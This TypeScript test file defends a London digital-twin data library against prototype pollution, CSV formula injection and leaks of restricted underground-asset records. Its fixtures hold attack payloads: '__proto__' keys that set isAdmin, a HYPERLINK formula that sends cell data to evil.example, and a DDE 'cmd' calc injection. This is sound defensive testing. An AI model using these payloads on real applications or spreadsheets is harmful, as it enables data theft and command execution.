/**
 * What a connector lets into its output: JSON keys that try to reach a prototype, spreadsheet
 * formulas in CSV cells, and records an audience may not see (underground assets) through every
 * serialiser and the command line.
 */
import { readFileSync } from 'node:fs';
import { PassThrough } from 'node:stream';
import { main } from '@ldn-twin/cli';
import { planningData } from '@ldn-twin/connectors/planning-data';
import { tfl } from '@ldn-twin/connectors/tfl';
import { undergroundAssets } from '@ldn-twin/connectors/underground-assets';
import {
  connect,
  createClient,
  filterForAudience,
  PUBLIC_AUDIENCE,
  type TwinRecord,
  toCsv,
  toFeatureCollection,
  toNdjson,
} from '@ldn-twin/core';
import { describe, expect, it } from 'vitest';

const fixtureText = (path: string) =>
  readFileSync(new URL(`../../packages/connectors/test/fixtures/${path}`, import.meta.url), 'utf8');

/** A fetch that answers every request with one body (the connector's real recorded answer, edited). */
const answering =
  (body: string): typeof fetch =>
  async () =>
    new Response(body, { headers: { 'content-type': 'application/json' } });

const client = (body: string) => createClient({ cache: false, retry: { limit: 0 }, fetch: answering(body) });

async function lines(source: AsyncIterable<string>): Promise<string> {
  let out = '';
  for await (const line of source) out += line;
  return out;
}

/** Every own key, at any depth, of a value. */
function keysDeep(value: unknown, out: string[] = []): string[] {
  if (Array.isArray(value)) for (const v of value) keysDeep(v, out);
  else if (value !== null && typeof value === 'object') {
    for (const key of Reflect.ownKeys(value)) {
      out.push(String(key));
      keysDeep((value as Record<string | symbol, unknown>)[key], out);
    }
  }
  return out;
}

/** Every object, at any depth, whose prototype is not Object.prototype or Array.prototype. */
function oddPrototypes(value: unknown, path = '$', out: string[] = []): string[] {
  if (value !== null && typeof value === 'object') {
    const proto = Object.getPrototypeOf(value);
    if (proto !== Object.prototype && proto !== Array.prototype && proto !== null) out.push(path);
    for (const [key, inner] of Object.entries(value)) oddPrototypes(inner, `${path}.${key}`, out);
  }
  return out;
}

describe('prototype pollution through a connector', () => {
  const entities = JSON.parse(
    fixtureText('planning-data/planningdata-entity-conservation-area.json'),
  ) as Record<string, unknown>[];
  // Written by hand: JSON.stringify would not write a `__proto__` key as one.
  // One entity, as /entity/{id}.json answers.
  const polluting = (key: string, withConstructor = true) =>
    JSON.stringify(entities[0]).replace(
      /^\{/,
      `{${key}: {"polluted": "yes", "isAdmin": true}, ${withConstructor ? '"constructor": {"prototype": {"polluted": "yes"}}, ' : ''}`,
    );

  it.each([
    ['a plain __proto__ key', '"__proto__"', true],
    ['a plain __proto__ key alone', '"__proto__"', false],
    ['a __proto__ key written with unicode escapes', '"\\u005f\\u005fproto\\u005f\\u005f"', true],
    ['a __proto__ key written with unicode escapes, alone', '"\\u005f\\u005fproto\\u005f\\u005f"', false],
  ])('%s in an entity reaches no prototype and no record', async (_, key, withConstructor) => {
    const body = polluting(key, withConstructor);
    expect(Object.hasOwn(JSON.parse(body), '__proto__')).toBe(true);
    const { records, report } = await connect(planningData, { client: client(body) })
      .entity({ entity: 44006852 })
      .collect();
    expect(report.received).toBe(report.mapped + report.failed);
    expect(records.length).toBeGreaterThan(0);
    // Nothing reached a shared prototype...
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
    // ...no record object got another prototype...
    expect(oddPrototypes(records)).toEqual([]);
    // ...and no `__proto__` or `constructor.prototype` key is carried on, for a later merge to trip on.
    expect(keysDeep(records).filter((k) => k === '__proto__' || k === 'prototype')).toEqual([]);
    // Merging a record's fields, as an app would, stays harmless.
    const merged = Object.assign({}, records[0]!.properties.attributes);
    expect(Object.getPrototypeOf(merged)).toBe(Object.prototype);
    expect((merged as Record<string, unknown>).isAdmin).toBeUndefined();
  });

  it('__proto__ in a TfL answer reaches no prototype', async () => {
    const roads = fixtureText('tfl/tfl-road-disruption.json').replace(
      /\{\s*"\$type"/,
      '{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}, "$type"',
    );
    const { records } = await connect(tfl, { client: client(roads) })
      .roadDisruptions({})
      .collect();
    expect(records.length).toBeGreaterThan(0);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(oddPrototypes(records)).toEqual([]);
    expect(keysDeep(records)).not.toContain('__proto__');
  });
});

describe('CSV formula injection through real mapped records', () => {
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Lambeth Palace")',
    '+SUM(1,2)',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1,2)',
  ];

  it.each(FORMULAS)('a served name %s is neutralised in toCsv', async (formula) => {
    const entities = JSON.parse(
      fixtureText('planning-data/planningdata-entity-conservation-area.json'),
    ) as Record<string, unknown>[];
    const body = JSON.stringify({ ...entities[0], name: formula, reference: formula });
    const { records } = await connect(planningData, { client: client(body) })
      .entity({ entity: 44006852 })
      .collect();
    expect(records[0]!.properties.name).toBe(formula);
    const csv = await lines(toCsv(records));
    const cells = csv
      .split(/\r?\n/)
      .slice(1)
      .join(',')
      // A rough split is enough: a formula can only hide at the very start of a cell.
      .split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
      .map((cell) => cell.replace(/^"|"$/g, ''));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d/.test(cell))).toEqual([]);
    expect(csv).toContain(`'${formula.charAt(0)}`);
  });

  it('the command line writes the same neutralised cells (--format csv)', async () => {
    // The CLI reads its traffic from a HAR archive; build one from the edited real answer.
    const entities = JSON.parse(
      fixtureText('planning-data/planningdata-entity-conservation-area.json'),
    ) as Record<string, unknown>[];
    const formula = FORMULAS[0]!;
    const body = JSON.stringify({ ...entities[0], name: formula });
    const original = globalThis.fetch;
    globalThis.fetch = answering(body);
    try {
      const stdout = new PassThrough();
      const stderr = new PassThrough();
      let out = '';
      stdout.on('data', (chunk) => {
        out += chunk;
      });
      const code = await main(
        ['fetch', 'planning-data', 'entity', '--param', 'entity=44006852', '--format', 'csv'],
        {
          stdout,
          stderr,
          env: {},
        },
      );
      expect(code).toBe(0);
      expect(out).toContain(`'=HYPERLINK(`);
      expect(out.split(/\r?\n/).some((line) => /(^|,)"?=/.test(line))).toBe(false);
    } finally {
      globalThis.fetch = original;
    }
  });
});

describe('access labels through the serialisers and the command line', () => {
  const ORG = 'lb-lambeth';
  const mains = fixtureText('underground-assets/example-water-mains-bng.geojson');
  const map = {
    id: 'asset_id',
    assetType: 'asset_type',
    owner: 'owner',
    material: 'material',
    depth: 'depth_m',
  };
  const ASSET_MARKS = ['WM-0001', 'WM-0002', 'CH-0001', 'Example Water', 'ductile iron'];

  async function imported(): Promise<TwinRecord[]> {
    const { records } = await connect(undergroundAssets, {
      client: createClient(),
      config: { organisation: ORG },
    })
      .importGeoJson({ dataset: 'water-mains', featureCollection: JSON.parse(mains), map })
      .collect();
    return records;
  }

  it('the records are restricted by default, and none is left for the public', async () => {
    const records = await imported();
    expect(records).toHaveLength(3);
    expect(records.every((r) => r.properties.access.classification !== 'open')).toBe(true);
    expect(filterForAudience(records, PUBLIC_AUDIENCE)).toEqual([]);
  });

  it('no serialiser of the public view holds an asset; the permitted view holds them all', async () => {
    const records = await imported();
    const forPublic = filterForAudience(records, PUBLIC_AUDIENCE);
    const outputs = {
      geojson: JSON.stringify(toFeatureCollection(forPublic)),
      csv: await lines(toCsv(forPublic)),
      ndjson: await lines(toNdjson(forPublic)),
      asyncFiltered: await lines(toNdjson(filterForAudience(asyncOf(records), PUBLIC_AUDIENCE))),
    };
    for (const [format, text] of Object.entries(outputs)) {
      for (const mark of ASSET_MARKS) expect(text.includes(mark), `${format} holds ${mark}`).toBe(false);
    }
    const permitted = filterForAudience(records, { clearance: 'official-sensitive', organisation: ORG });
    expect(JSON.stringify(toFeatureCollection(permitted))).toContain('WM-0001');
  });

  it.each(['json', 'geojson', 'csv', 'ndjson', 'table'])(
    'ldn-twin fetch underground-assets importGeoJson --format %s shows the public nothing',
    async (format) => {
      const run = async (extra: string[]) => {
        const stdout = new PassThrough();
        const stderr = new PassThrough();
        let out = '';
        let err = '';
        stdout.on('data', (chunk) => {
          out += chunk;
        });
        stderr.on('data', (chunk) => {
          err += chunk;
        });
        const code = await main(
          [
            'fetch',
            'underground-assets',
            'importGeoJson',
            '--param',
            'dataset=water-mains',
            '--param',
            `featureCollection=${JSON.stringify(JSON.parse(mains))}`,
            '--param',
            `map=${JSON.stringify(map)}`,
            '--format',
            format,
            ...extra,
          ],
          { stdout, stderr, env: { LDN_TWIN_UNDERGROUND_ORGANISATION: ORG } },
        );
        return { code, out, err };
      };
      // Default audience: the public.
      const open = await run([]);
      expect(open.code, open.err).toBe(0);
      for (const mark of ASSET_MARKS) expect(`${open.out}${open.err}`.includes(mark), mark).toBe(false);
      // Cleared, but another organisation: still nothing.
      const other = await run(['--audience', 'official-sensitive', '--organisation', 'lb-southwark']);
      for (const mark of ASSET_MARKS) expect(`${other.out}${other.err}`.includes(mark), mark).toBe(false);
      // The importing organisation sees its assets (so the checks above are not vacuous).
      const own = await run(['--audience', 'official-sensitive', '--organisation', ORG]);
      expect(own.out).toContain('WM-0001');
    },
  );
});

async function* asyncOf<T>(items: readonly T[]): AsyncIterable<T> {
  for (const item of items) yield item;
}
